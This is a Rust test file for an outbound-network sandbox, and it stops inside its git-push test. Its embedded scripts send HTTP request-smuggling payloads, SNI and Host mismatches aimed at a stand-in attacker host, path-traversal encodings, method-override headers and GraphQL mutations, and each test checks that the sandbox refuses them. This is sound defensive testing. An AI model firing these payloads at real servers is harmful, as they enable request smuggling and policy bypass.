//! Rows 27 to 42 of the catalogue of attacks on a way out: what TLS says and
//! what is inside it, the framing of HTTP, paths and methods, git, and
//! credentials in the wrong place.
//!
//! Every row that stops something also shows the honest form passing.

use std::fs::Permissions;
use std::os::unix::fs::PermissionsExt;

use serde_json::Value;
use stockade_testkit::net::{Internet, ORIGIN};
use stockade_testkit::{Finished, World};

/// Where hosts of the attacker are.
const EVIL: &str = "93.184.216.66";
const SECRET: &str = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";

struct Range {
    world: World,
    internet: Internet,
}

impl Range {
    fn new(network: &str, rest: &str) -> Self {
        let world = World::new();
        let token = world.write("token", SECRET);
        std::fs::set_permissions(token, Permissions::from_mode(0o600)).unwrap();
        let internet = Internet::start(&world);
        internet.policy(&world, network, rest);
        Self { world, internet }
    }

    fn policy(&self, network: &str, rest: &str) {
        self.internet.policy(&self.world, network, rest);
    }

    fn sh(&self, script: &str) -> Finished {
        self.internet.sh(&self.world, script)
    }

    /// A script with the functions of [`WIRE`]; the lines that it prints.
    #[track_caller]
    fn python(&self, script: &str) -> Vec<String> {
        let script = format!("{WIRE}\n{script}");
        let argv = ["/usr/bin/python3", "-c", &script];
        let printed = self.internet.run(&self.world, &[], &argv).expect_code(0);
        printed.stdout.lines().map(str::to_owned).collect()
    }

    /// Targets of the requests that an origin got.
    fn targets(&self) -> Vec<String> {
        let requests = self.internet.seen("request");
        let targets = requests.iter().filter_map(|one| one["target"].as_str());
        targets.map(str::to_owned).collect()
    }

    /// Records of the log about the network.
    fn log(&self) -> Vec<Value> {
        let mut command = self.world.stockade();
        command.args(["log", "--network", "--json"]);
        let printed = Finished::of(command.output().unwrap()).expect_code(0);
        let lines = printed.stdout.lines();
        lines
            .map(|line| serde_json::from_str(line).expect("a record is JSON"))
            .collect()
    }

    /// Whether some record of the log has all of these.
    #[track_caller]
    fn expect_logged(&self, members: &[&str]) {
        let log = self.log();
        let has = |record: &Value| {
            let text = record.to_string();
            members.iter().all(|member| text.contains(member))
        };
        assert!(log.iter().any(has), "{members:?} is not in {log:#?}");
    }
}

/// Bytes on the wire, by each way: `proxy` is absolute form at the proxy's
/// port, `plain` port 80 by the redirect, `tunnel` and `direct` are TLS with
/// and without the proxy.
const WIRE: &str = r#"
import os, socket, ssl, struct, sys
WAYS = ('proxy', 'plain', 'tunnel', 'direct')
def unverified(alpn=('http/1.1',)):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    c.set_alpn_protocols(list(alpn)); return c
def tunnel(host, port=443):
    s = socket.create_connection(('127.0.0.1', 3128), 30)
    s.sendall(f'CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n'.encode())
    d = b''
    while b'\r\n\r\n' not in d:
        c = s.recv(1)
        if not c: break
        d += c
    assert d.startswith(b'HTTP/1.1 200'), d
    return s
def connect(way, host='origin.test'):
    if way == 'proxy': return socket.create_connection(('127.0.0.1', 3128), 30)
    if way == 'plain': return socket.create_connection((host, 80), 30)
    s = tunnel(host) if way == 'tunnel' else socket.create_connection((host, 443), 30)
    return unverified().wrap_socket(s, server_hostname=host)
def read(s):
    s.settimeout(30); d = b''
    try:
        while True:
            c = s.recv(65536)
            if not c: return d
            d += c
    except TimeoutError: return d + b' HANGS'
    except OSError: return d
def ask(way, data, host='origin.test'):
    s = connect(way, host)
    try: s.sendall(data)
    except OSError: pass
    return read(s)
def target(way, path, host='origin.test'):
    return (f'http://{host}' if way == 'proxy' else '') + path
def status(d):
    return d[9:12].decode() if d.startswith(b'HTTP/1.1 ') and b'HANGS' not in d else repr(d[:300])
def code(d):
    for line in d.split(b'\r\n'):
        if line.lower().startswith(b'x-sandbox-denied:'): return line.split(b':')[1].strip().decode()
    return '-'
def hello(name, extra=b''):
    'A ClientHello without its record.'
    a, b = ssl.MemoryBIO(), ssl.MemoryBIO(); o = unverified().wrap_bio(a, b, server_hostname=name)
    try: o.do_handshake()
    except ssl.SSLWantReadError: pass
    h = b.read()[9:]; at = 34; at += 1 + h[at]; at += 2 + int.from_bytes(h[at:at+2], 'big'); at += 1 + h[at]
    e = h[at+2:] + extra; h = h[:at] + struct.pack('>H', len(e)) + e
    return b'\x01' + struct.pack('>I', len(h))[1:] + h
def record(part): return b'\x16\x03\x01' + struct.pack('>H', len(part)) + part
def greet(s, *parts):
    'What comes back first: a ServerHello, an alert, or the end.'
    try:
        for part in parts: s.sendall(part)
        d = s.recv(1)
    except OSError: d = b''
    return {b'\x16': 'hello', b'\x15': 'alert', b'': 'closed'}.get(d, repr(d))
"#;

const INSPECT: &str =
    "[[network.rule]]\nhost = \"origin.test\"\nmethods = [\"GET\", \"HEAD\", \"POST\"]\n";

#[test]
fn row_27_the_server_name_is_that_of_the_destination() {
    let range = Range::new("allow = [\"origin.test\", \"other.test\"]", "");
    range.internet.zone("other.test", &[ORIGIN]);
    let script = r#"
way = {'tunnel': lambda: tunnel('origin.test'), 'direct': lambda: socket.create_connection(('origin.test', 443), 30)}
for name, make in way.items():
    h = hello('origin.test')
    print(name, greet(make(), record(h)), greet(make(), record(hello('ORIGIN.test'))),
          greet(make(), record(h[:7]), record(h[7:60]), record(h[60:])))
    print(name, *[greet(make(), record(hello(sni))) for sni in ('other.test', 'evil.test', 'a.origin.test', None)],
          greet(make(), b'GET / HTTP/1.1\r\nHost: origin.test\r\n\r\n'), greet(make(), b'SSH-2.0-x\r\n'))
"#;
    let check = |range: &Range| {
        let lines = range.python(script);
        for (way, pair) in ["tunnel", "direct"].iter().zip(lines.chunks(2)) {
            assert_eq!(pair[0], format!("{way} hello hello hello"), "{lines:?}");
            let refused: Vec<&str> = pair[1].split(' ').skip(1).collect();
            assert_eq!(refused.len(), 6, "{lines:?}");
            assert!(
                refused[..4]
                    .iter()
                    .all(|one| ["alert", "closed"].contains(one)),
                "{lines:?}"
            );
            assert!(!refused[4..].contains(&"hello"), "{lines:?}");
        }
        assert!(!range.internet.saw_text("SSH-2.0"));
        range.expect_logged(&["\"sni-mismatch\"", "origin.test:443"]);
        range.expect_logged(&["\"no-sni\"", "origin.test:443"]);
    };
    check(&range);
    range.policy("", INSPECT);
    check(&range);
}

#[test]
fn row_28_a_request_inside_tls_is_for_the_destination() {
    let range = Range::new("allow = [\"evil.test\"]", INSPECT);
    range.internet.zone("evil.test", &[EVIL]);
    let curl = "curl -sS --max-time 30 -o /dev/null -w '%{http_code} '";
    let mut script = String::new();
    for version in ["--http1.1", "--http2"] {
        for way in ["", "--noproxy '*'"] {
            for header in [
                "",
                "-H 'Host: origin.test:443'",
                "-H 'Host: evil.test'",
                "-H 'Host: origin.test:8443'",
            ] {
                script += &format!("{curl} {version} {way} {header} https://origin.test/page\n");
            }
            script += "echo\n";
        }
    }
    let expected = ["200 200 421 421"; 4].join(" \n");
    assert_eq!(range.sh(&script).ok(), expected);
    let requests = range.internet.seen("request");
    assert_eq!(requests.len(), 8, "{requests:?}");
    assert!(requests.iter().all(|one| one["sni"] == "origin.test"));
    assert!(!range.internet.saw_text("evil.test"));
    let versions: Vec<&Value> = requests.iter().map(|one| &one["version"]).collect();
    assert!(versions.contains(&&Value::from("HTTP/2.0")), "{versions:?}");
    range.expect_logged(&["\"misdirected\"", "origin.test:443"]);
}

#[test]
fn row_29_the_host_field_is_that_of_the_target() {
    let range = Range::new("allow = [\"origin.test\", \"other.test\"]", "");
    range.internet.zone("other.test", &[EVIL]);
    let script = r#"
good = ('Host: origin.test', 'host: ORIGIN.test:80')
bad = ('Host: other.test', 'Host: origin.test\r\nHost: origin.test', 'Host: origin.test\r\nHost: other.test', 'X: y',
       'Host:', 'Host: origin.test, other.test', 'Host: origin.test/other.test', 'Host: user@origin.test', 'Host: origin.test:81')
for way in ('proxy', 'plain'):
    for hosts in (good, bad):
        print(*[status(ask(way, f'GET {target(way, "/page")} HTTP/1.1\r\n{h}\r\nConnection: close\r\n\r\n'.encode())) for h in hosts])
d = ask('plain', b'GET http://other.test/x HTTP/1.1\r\nHost: origin.test\r\n\r\n'); print(status(d))
d = ask('proxy', b'GET /x HTTP/1.1\r\nHost: origin.test\r\n\r\n'); print(status(d))
s = connect('proxy'); s.sendall(b'GET http://origin.test/page HTTP/1.1\r\nHost: origin.test\r\n\r\n'); d = b''
while not d.endswith(b'origin /page\n'): d += s.recv(4096)
s.sendall(b'GET /x HTTP/1.1\r\nHost: origin.test\r\n\r\n'); d += read(s)
print(d.count(b'HTTP/1.1 200'), d.count(b'HTTP/1.1 400'), d.split(b'"request_id":"')[1].split(b'"')[0].decode())
"#;
    let lines = range.python(script);
    assert_eq!(lines.len(), 7, "{lines:?}");
    for (way, pair) in lines[..4].chunks(2).enumerate() {
        assert_eq!(pair[0], "200 200", "{way} {lines:?}");
        let refused: Vec<&str> = pair[1].split(' ').collect();
        assert_eq!(refused.len(), 9, "{way} {lines:?}");
        assert!(
            refused.iter().all(|one| ["400", "421"].contains(one)),
            "{way} {lines:?}"
        );
    }
    assert_eq!(lines[4..6], ["400", "400"], "{lines:?}");
    let last: Vec<&str> = lines[6].split(' ').collect();
    assert_eq!(last[..2], ["1", "1"], "{lines:?}");
    // What the client was told under this number is in the log.
    range.expect_logged(&["\"bad-request\"", &format!("\"connection\":{},", last[2])]);
    assert!(range.targets().iter().all(|target| target == "/page"));
    assert!(!range.internet.saw_text("other.test"));
    let requests = range.internet.seen("request");
    assert!(requests.iter().all(|one| one["address"] == ORIGIN));
}

const ATTACHED: &str = "[[credential]]\nname = \"token\"\nhost = \"origin.test\"\nfrom = { file = \"~/token\" }\n\
                        attach = { header = \"Authorization\", format = \"Bearer {}\" }\n";

/// Whether the header fields of a request, as the origin saw them, carry the
/// secret.
fn carries_secret(request: &Value) -> bool {
    request["headers"].to_string().contains(SECRET)
}

#[test]
fn row_30_a_claimed_host_gets_neither_policy_nor_credential() {
    let rules = format!("[[network.rule]]\nhost = \"evil.test\"\nmethods = [\"GET\"]\n{ATTACHED}");
    let range = Range::new("allow = [\"origin.test\"]", &rules);
    range.internet.zone("evil.test", &[EVIL]);
    let script = r#"
for way in ('tunnel', 'direct', 'plain'):
    d = ask(way, b'GET /claimed HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\n\r\n', 'evil.test'); print(way, status(d))
# The address of one name with the name of the other.
s = socket.create_connection((socket.gethostbyname('evil.test'), 443), 30); print(greet(s, record(hello('origin.test'))))
s = socket.create_connection(('93.184.216.66', 443), 30); print(greet(s, record(hello('origin.test'))))
for host in ('evil.test', 'origin.test'):
    for way in ('tunnel', 'direct'):
        d = ask(way, f'GET /honest HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'.encode(), host); print(host, status(d))
"#;
    let lines = range.python(script);
    assert_eq!(
        lines[..3],
        ["tunnel 421", "direct 421", "plain 421"],
        "{lines:?}"
    );
    assert!(
        lines[3..5]
            .iter()
            .all(|line| ["alert", "closed"].contains(&line.as_str())),
        "{lines:?}"
    );
    let honest = [
        "evil.test 200",
        "evil.test 200",
        "origin.test 200",
        "origin.test 200",
    ];
    assert_eq!(lines[5..], honest, "{lines:?}");
    let requests = range.internet.seen("request");
    assert_eq!(requests.len(), 4, "{requests:?}");
    for request in &requests {
        assert_eq!(request["target"], "/honest");
        let bound = request["sni"] == "origin.test";
        assert_eq!(carries_secret(request), bound, "{request}");
        assert_eq!(request["address"] == ORIGIN, bound, "{request}");
    }
}

#[test]
fn row_31_an_address_over_tls_needs_a_rule_for_addresses() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    let curl = "curl -sSk --max-time 30";
    let script = format!(
        "for url in https://{ORIGIN}/ 'https://[2606:2800::1]/'; do {curl} $url; {curl} --noproxy '*' $url; done; \
         {curl} --noproxy '*' --resolve origin.test:443:{ORIGIN} https://origin.test/"
    );
    let finished = range.sh(&script);
    assert!(!finished.stdout.contains("origin /"), "{finished:?}");
    assert_eq!(range.internet.seen("connect"), Vec::<Value>::new());
    let rules = format!(
        "[[network.rule]]\ncidr = \"{ORIGIN}/32\"\n[[network.rule]]\ncidr = \"2606:2800::/32\"\n"
    );
    range.policy("", &rules);
    let finished = range.sh(&script);
    assert_eq!(
        finished.stdout.matches("origin /").count(),
        4,
        "{finished:?}"
    );
}

const SMUGGLING: &str = r#"
HEAD = (
    'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n', 'Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n',
    'Content-Length: 0\r\nContent-Length: 44\r\n\r\n', 'Content-Length: 0\r\nContent-Length: 0\r\n\r\n',
    'Content-Length: +0\r\n\r\n', 'Content-Length: 0, 0\r\n\r\n', 'Content-Length: 0x0\r\n\r\n', 'Content-Length: -1\r\n\r\n',
    'Content-Length:\r\n\r\n', 'Content-Length: 99999999999999999999999\r\n\r\n',
    'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n', 'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n', 'Transfer-Encoding: identity\r\n\r\n',
    'Transfer-Encoding: chunked\x0b\r\n\r\n0\r\n\r\n', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n',
    'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n', 'Content-Length : 44\r\n\r\n', ' Content-Length: 44\r\n\r\n', 'X-A: a\r\n Content-Length: 44\r\n\r\n',
    'X-A: a\r\n\tb\r\n\r\n', 'X-A: a\nContent-Length: 44\r\n\r\n', 'X-A: a\n\n', 'X-A: a\rContent-Length: 44\r\n\r\n', 'X-A: a\0b\r\n\r\n',
    'X-A\r\n\r\n', ': a\r\n\r\n', 'X-\u00e4: a\r\n\r\n', 'Connection: content-length\r\nContent-Length: 44\r\n\r\n', 'Expect: 200-ok\r\n\r\n',
)
LINE = ('POST  {} HTTP/1.1', 'POST {}  HTTP/1.1', 'POST {} HTTP/1.2', 'POST {} HTTP/2.0', 'POST {}', ' POST {} HTTP/1.1', 'POST\t{} HTTP/1.1',
        'P(ST {} HTTP/1.1', 'POST {} http/1.1', 'POST {} HTTP/1.1 x')
BODY = ('5;x=y\r\nhello\r\n0\r\n\r\n', '0x5\r\nhello\r\n0\r\n\r\n', '+5\r\nhello\r\n0\r\n\r\n', '5\nhello\r\n0\r\n\r\n', '5\r\nhello0\r\n\r\n', '5\r\nhelloxx0\r\n\r\n',
        '-1\r\n', 'fffffffffffffffff\r\n', '0\r\nHost: other.test\r\n\r\n', '0\r\nContent-Length: 44\r\n\r\n', '0\r\nTransfer-Encoding: chunked\r\n\r\n', '0\n\n', '\r\n0\r\n\r\n')
def after(way): return f'GET {target(way, "/smuggled")} HTTP/1.1\r\nHost: origin.test\r\n\r\n'
for way in WAYS:
    start = f'POST {target(way, "/bad")} HTTP/1.1\r\nHost: origin.test\r\n'
    heads = [start + h for h in HEAD] + [l.format(target(way, "/bad")) + '\r\nHost: origin.test\r\n\r\n' for l in LINE]
    heads += [f'POST {target(way, "/bad")} HTTP/1.0\r\nHost: origin.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n']
    got = [status(ask(way, (h + after(way)).encode('latin-1'))) for h in heads]
    # What does not begin as HTTP is closed without an answer.
    print(way, 'passed', [(h, s) for h, s in zip(heads, got) if not s.startswith('4') and s not in ('505', "b''")])
    cut = f'POST {target(way, "/cut")} HTTP/1.1\r\nHost: origin.test\r\nTransfer-Encoding: chunked\r\n\r\n'
    got = [ask(way, (cut + b + after(way)).encode()) for b in BODY]
    print(way, 'hung', [b for b, d in zip(BODY, got) if b'HANGS' in d or b'smuggled' in d])
    good = f'POST {target(way, "/good")} HTTP/1.1\r\nHost: origin.test\r\n'
    d = ask(way, (good + 'Content-Length: 5\r\n\r\nhello' + good + 'Transfer-Encoding: chunked\r\n\r\n3\r\nhel\r\n002\r\nlo\r\n0\r\nX-Sum: 1\r\n\r\n'
        + good + 'Connection: close\r\n\r\n').encode())
    print(way, 'good', d.count(b'HTTP/1.1 200'))
"#;

#[test]
fn row_32_what_has_two_readings_is_refused() {
    let range = Range::new("", INSPECT);
    let lines = range.python(SMUGGLING);
    let mut expected = Vec::new();
    for way in ["proxy", "plain", "tunnel", "direct"] {
        expected.push(format!("{way} passed []"));
        expected.push(format!("{way} hung []"));
        expected.push(format!("{way} good 3"));
    }
    assert_eq!(lines, expected);
    let requests = range.internet.seen("request");
    let mut good = 0;
    for request in &requests {
        match request["target"].as_str() {
            Some("/good") => {
                good += 1;
                assert!(["hello", ""].contains(&request["body"].as_str().unwrap()));
            }
            // Its head was honest, and its body never became whole.
            Some("/cut") => assert!(request["broken"].is_string(), "{request}"),
            other => panic!("{other:?} reached an origin: {request}"),
        }
    }
    assert_eq!(good, 12, "{requests:?}");
    range.expect_logged(&["\"bad-request\"", "\"http_proxy\""]);
    range.expect_logged(&["\"bad-request\"", "origin.test:443"]);
}

#[test]
fn row_33_bytes_behind_an_upgrade_wait_for_its_answer() {
    let range = Range::new("", &format!("{INSPECT}websocket = true\n"));
    let script = r#"
UPGRADE = 'Connection: Upgrade\r\nUpgrade: {}\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n'
def head(way, path, protocol='websocket'): return f'GET {target(way, path)} HTTP/1.1\r\nHost: origin.test\r\n'.encode() + UPGRADE.format(protocol).encode()
frame = b'\x81\x82\0\0\0\0hi'
for way in WAYS:
    hidden = f'GET {target(way, "/smuggled")} HTTP/1.1\r\nHost: origin.test\r\n\r\n'.encode()
    d = ask(way, head(way, '/page') + hidden); print(way, status(d), d.count(b'HTTP/1.1 '))
    d = ask(way, head(way, '/page', 'h2c') + hidden); print(way, d.count(b'smuggled'))
    s = connect(way); s.sendall(head(way, '/ws') + frame); d = b''
    while not d.endswith(b'\x81\x02hi'):
        c = s.recv(4096)
        if not c: break
        d += c
    print(way, status(d), d.endswith(b'\x81\x02hi'))
"#;
    let lines = range.python(script);
    for (way, three) in ["proxy", "plain", "tunnel", "direct"]
        .iter()
        .zip(lines.chunks(3))
    {
        let expected = [
            format!("{way} 200 1"),
            format!("{way} 0"),
            format!("{way} 101 True"),
        ];
        assert_eq!(three, expected, "{lines:?}");
    }
    assert!(!range.internet.saw_text("smuggled"));
    assert_eq!(range.internet.seen("ws").len(), 4);
}

#[test]
fn row_34_a_body_is_framed_anew_whatever_the_method() {
    let range = Range::new("", INSPECT);
    let script = r#"
for way in WAYS:
    inner = 'GET /smuggled HTTP/1.1\r\nHost: origin.test\r\n\r\n'
    get = f'GET {target(way, "/get")} HTTP/1.1\r\nHost: origin.test\r\n'
    data = get + f'Content-Length: {len(inner)}\r\n\r\n{inner}'
    data += get + f'Transfer-Encoding: chunked\r\n\r\n{len(inner):x}\r\n{inner}\r\n0\r\n\r\n'
    data += f'HEAD {target(way, "/head")} HTTP/1.1\r\nHost: origin.test\r\nContent-Length: {len(inner)}\r\n\r\n{inner}'
    data += get + 'Connection: keep-alive, close, x-hop\r\nX-Hop: 1\r\nContent-Length: 2\r\n\r\nhi'
    d = ask(way, data.encode()); print(way, d.count(b'HTTP/1.1 200'))
"#;
    let expected = ["proxy 4", "plain 4", "tunnel 4", "direct 4"];
    assert_eq!(range.python(script), expected);
    let requests = range.internet.seen("request");
    assert_eq!(requests.len(), 16, "{requests:?}");
    for (number, request) in requests.iter().enumerate() {
        let body = request["body"].as_str().unwrap();
        match number % 4 {
            3 => assert_eq!(body, "hi"),
            _ => assert!(body.starts_with("GET /smuggled"), "{request}"),
        }
        assert_ne!(request["target"], "/smuggled");
    }
}

#[test]
fn row_35_connection_takes_away_only_what_is_of_the_hop() {
    let range = Range::new("allow = [\"origin.test\"]", ATTACHED);
    let script = r#"
def request(way, fields): return f'GET {target(way, "/page")} HTTP/1.1\r\nHost: origin.test\r\n{fields}\r\n'.encode()
good = 'Connection: close, X-Custom\r\nX-Custom: gone\r\nX-Stays: here\r\nKeep-Alive: 5\r\nProxy-Connection: close\r\nTE: gzip\r\n'
bad = ('Authorization', 'close, Host', 'cookie', 'X-Forwarded-For', 'Content-Type', 'a b', '"close"')
for way in WAYS:
    print(way, status(ask(way, request(way, good))), *[status(ask(way, request(way, f'Connection: {b}\r\n'))) for b in bad])
for way in ('proxy', 'plain'):
    print(way, status(ask(way, request(way, good + 'Proxy-Authorization: Basic cHJveHktc2VjcmV0\r\nProxy-Other: proxy-secret\r\n'))))
"#;
    let lines = range.python(script);
    let expected = |way: &&str| format!("{way} 200 {}", ["400"; 7].join(" "));
    let mut wanted: Vec<String> = ["proxy", "plain", "tunnel", "direct"]
        .iter()
        .map(expected)
        .collect();
    wanted.extend(["proxy 200".to_owned(), "plain 200".to_owned()]);
    assert_eq!(lines, wanted);
    let requests = range.internet.seen("request");
    assert_eq!(requests.len(), 6, "{requests:?}");
    for request in &requests {
        let headers = request["headers"].to_string();
        assert!(headers.contains("here"), "{headers}");
        for gone in ["gone", "keep-alive", "proxy-", "cHJveHk", "\"te\""] {
            assert!(!headers.contains(gone), "{gone} {headers}");
        }
        assert_eq!(carries_secret(request), request["port"] == 443, "{request}");
    }
}

#[test]
fn row_35_a_response_cannot_hide_its_framing_either() {
    let range = Range::new("", INSPECT);
    let curl = "curl -sS --http1.1 --max-time 30 -o /dev/null -w '%{http_code} '";
    let mut script = String::new();
    for way in ["", "--noproxy '*'"] {
        for scheme in ["http", "https"] {
            let url = format!("{scheme}://origin.test/header?connection=");
            script += &format!(
                "{curl} {way} '{url}x-hop&x-hop=1'; {curl} {way} '{url}set-cookie&set-cookie=a'\n"
            );
        }
    }
    assert_eq!(range.sh(&script).ok(), ["200 502"; 4].join(" "));
    range.expect_logged(&["\"bad-response\"", "origin.test:443"]);
}

#[test]
fn row_36_the_path_that_is_judged_is_the_path_that_is_sent() {
    let rule =
        "[[network.rule]]\nhost = \"origin.test\"\nmethods = [\"GET\"]\npaths = [\"/open/**\"]\n";
    let range = Range::new("", rule);
    let script = r#"
good = ('/open/a', '/%6fpen/a', '//open///a', '/open/./a', '/shut/../open/a', '/open/%2E/a', '/open/b/%2e%2e/a')
bad = ('/shut/a', '/open/../shut/a', '/open/%2e%2e/shut/a', '/open/.%2E/shut/a', '/open//../shut/a', '/open/..;/shut/a', '/open/..;x=1/shut/a',
       '/open/%2e%2e%2fshut/a', '/open/..%2Fshut/a', '/open/..%5Cshut/a', '/open/..\\shut/a', '/open/a%2Fb', '/open/%', '/open/%zz', '/open/%00',
       '/open/a%0d%0ab', '/OPEN/a', '/open', '/open/a#b')
def get(way, path): return status(ask(way, f'GET {target(way, path)} HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\n\r\n'.encode()))
for way in WAYS:
    print(way, *[get(way, p) for p in good]); print(way, [p for p in bad if get(way, p) not in ('400', '403')])
    print(way, get(way, '/open/%252e%252e/a'))
"#;
    let lines = range.python(script);
    for (way, three) in ["proxy", "plain", "tunnel", "direct"]
        .iter()
        .zip(lines.chunks(3))
    {
        let expected = [
            format!("{way} {}", ["200"; 7].join(" ")),
            format!("{way} []"),
            format!("{way} 200"),
        ];
        assert_eq!(three, expected, "{lines:?}");
    }
    for target in range.targets() {
        // What is encoded twice is a name like any other, and stays encoded.
        assert!(
            ["/open/a", "/open/%252e%252e/a"].contains(&target.as_str()),
            "{target}"
        );
    }
    range.internet.forget();
    range.policy("", &format!("{rule}encoded_slash = true\n"));
    let script = "curl -sS --max-time 30 https://origin.test/open/a%2Fb; curl -sS --max-time 30 -o /dev/null -w '%{http_code}' https://origin.test/open/..%2Fshut";
    assert_eq!(range.sh(script).ok(), "origin /open/a%2Fb\n403");
    assert_eq!(range.targets(), ["/open/a%2Fb"]);
}

#[test]
fn row_37_no_header_renames_the_method() {
    let range = Range::new("", INSPECT);
    let curl = "curl -sS --max-time 30 -o /dev/null -w '%{http_code} '";
    let fields = "-H 'X-HTTP-Method-Override: DELETE' -H 'X-HTTP-Method: DELETE' -H 'X-Method-Override: DELETE' -H 'X-Kept: yes'";
    let mut script = String::new();
    for url in ["http://origin.test/page", "https://origin.test/page"] {
        for way in ["", "--noproxy '*'"] {
            script += &format!(
                "{curl} {way} -X DELETE {url}; {curl} {way} -X POST {fields} {url}; {curl} {way} -X get {url}\n"
            );
        }
    }
    assert_eq!(range.sh(&script).ok(), ["403 200 403"; 4].join(" "));
    for request in range.internet.seen("request") {
        let text = request.to_string();
        assert!(text.contains("x-kept") && request["method"] == "POST");
        assert!(!text.contains("override") && !text.contains("DELETE"));
        assert!(!text.contains("x-http-method"), "{text}");
    }
    range.internet.forget();
    // Where no method is demanded they are the origin's affair.
    range.policy("allow = [\"origin.test\"]", "");
    range.sh(&format!("{curl} {fields} http://origin.test/page"));
    assert!(range.internet.saw_text("x-http-method-override"));
}

#[test]
fn row_38_graphql_that_may_only_read_only_reads() {
    let rule = "[[network.rule]]\nhost = \"origin.test\"\nmethods = [\"GET\", \"POST\"]\npaths = [\"/graphql\"]\ngraphql = \"read-only\"\n";
    let range = Range::new("", rule);
    let script = r#"
import gzip, json, urllib.parse
def post(way, body, kind='application/json', more=''):
    head = f'POST {target(way, "/graphql")} HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\nContent-Type: {kind}\r\n{more}Content-Length: {len(body)}\r\n\r\n'
    return ask(way, head.encode() + body)
def get(way, **query): return ask(way, f'GET {target(way, "/graphql?" + urllib.parse.urlencode(query))} HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\n\r\n'.encode())
def query(text, **more): return json.dumps({'query': text, **more}).encode()
Q, M = '{ viewer { login } }', 'mutation { drop(id: 1) { id } }'
for way in WAYS:
    good = (post(way, query(Q)), post(way, query('query Q { a }', operationName='Q')), post(way, b'[' + query(Q) + b',' + query(Q) + b']'), get(way, query=Q),
            post(way, query('{ a(text: "mutation { x }") # mutation\n }')))
    bad = (post(way, query(M)), post(way, query('query Q { a } ' + M)), post(way, b'[' + query(Q) + b',' + query(M) + b']'), post(way, query('subscription { a }')),
           post(way, b'{"query":"{ a }","query":"mutation { b }"}'), post(way, b'{"qu\\u0065ry":"mutation { b }"}'), post(way, query('\ufeff,,mutation{b}')),
           post(way, M.encode(), 'application/graphql'), post(way, b'query=' + urllib.parse.quote(M).encode(), 'application/x-www-form-urlencoded'),
           post(way, gzip.compress(query(M)), more='Content-Encoding: gzip\r\n'), get(way, query=M), post(way, b'not json'), post(way, b'{"jsonrpc":"2.0","method":"write","id":1}'),
           post(way, query('fragment F on X { a }', extensions={'persistedQuery': {'version': 1, 'sha256Hash': 'aa'}})))
    print(way, *[status(d) for d in good]); print(way, [n for n, d in enumerate(bad) if code(d) not in ('graphql', 'unscannable-encoding')])
"#;
    let lines = range.python(script);
    for (way, pair) in ["proxy", "plain", "tunnel", "direct"]
        .iter()
        .zip(lines.chunks(2))
    {
        let expected = [
            format!("{way} {}", ["200"; 5].join(" ")),
            format!("{way} []"),
        ];
        assert_eq!(pair, expected, "{lines:?}");
    }
    assert_eq!(range.targets().len(), 20);
    assert!(!range.internet.saw_text("drop"));
}

const GIT: &str = "[[network.git]]\nhost = \"origin.test\"\nread = [\"git/owner/*\"]\npush = [\"git/owner/site\"]\nrefs = [\"refs/heads/agent/*\"]\npush_bytes_max = \"1MiB\"\n";

const COMMIT: &str = "git -c user.name=a -c user.email=a@test -c commit.gpgsign=false commit -q";

impl Range {
    /// Bare repositories with one commit on `main`.
    fn repositories(&self, names: &[&str]) {
        for name in names {
            let path = self.internet.git_root().join(format!("{name}.git"));
            let script = format!(
                "set -e; git init -q --bare -b main {path}; d=$(mktemp -d); git clone -q {path} $d 2>/dev/null; cd $d; \
                 git checkout -q -b main; echo one > file; git add file; {COMMIT} -m one; git push -q {path} main; rm -rf $d",
                path = path.display()
            );
            self.world.outside_sh(&script).expect_code(0);
        }
    }

    /// References of a repository outside.
    fn references(&self, name: &str) -> String {
        let path = self.internet.git_root().join(format!("{name}.git"));
        let script = format!(
            "git -c safe.directory='*' --git-dir {} for-each-ref --format='%(refname)'",
            path.display()
        );
        self.world.outside_sh(&script).ok()
    }
}

#[test]
fn row_39_git_pushes_to_named_repositories_and_references_only() {
    let range = Range::new("", GIT);
    range.repositories(&["owner/site", "owner/other", "else/where"]);
    let script = format!(
        r#"cd /tmp; u=https://origin.test/git
git clone -q $u/owner/site.git site && echo cloned; git clone -q $u/owner/other other && echo cloned
git clone -q $u/else/where.git where || echo refused
cd site; echo two > file; {COMMIT} -a -m two
git push -q origin HEAD:refs/heads/agent/one && echo pushed
git push -q origin HEAD:main || echo refused
git push -q origin HEAD:refs/tags/agent/x || echo refused
git push -q origin :agent/one || echo refused
git push -q origin HEAD:agent/two HEAD:main || echo refused
git push -q $u/owner/other.git HEAD:agent/one || echo refused
git push -q $u/else/where.git HEAD:agent/one || echo refused
git push -q $u/owner/site.git/../other.git HEAD:agent/one || echo refused
head -c 2000000 /dev/urandom > big; git add big; {COMMIT} -m big
git push -q origin HEAD:agent/big || echo refused
git reset -q --hard HEAD~1; echo three > file; {COMMIT} -a -m three
git -c http.version=HTTP/1.1 push -q origin HEAD:agent/one && echo pushed; git fetch -q origin && echo fetched"#
    );
    let finished = range.sh(&script);
    let expected = "cloned cloned refused pushed refused refused refused refused refused refused refused refused pushed fetched";
    let words: Vec<&str> = finished.stdout.split_whitespace().collect();
    assert_eq!(words.join(" "), expected, "{finished:?}");
    for code in ["git-ref", "git-push", "git-read", "git-size"] {
        range.expect_logged(&[&format!("\"{code}\""), "origin.test:443"]);
    }
    let said = &finished.stderr;
    assert!(said.contains("does not permit pushing"), "{said}");
    assert_eq!(
        range.references("owner/site"),
        "refs/heads/agent/one\nrefs/heads/main"
    );
    for name in ["owner/other", "else/where"] {
        assert_eq!(range.references(name), "refs/heads/main");
    }
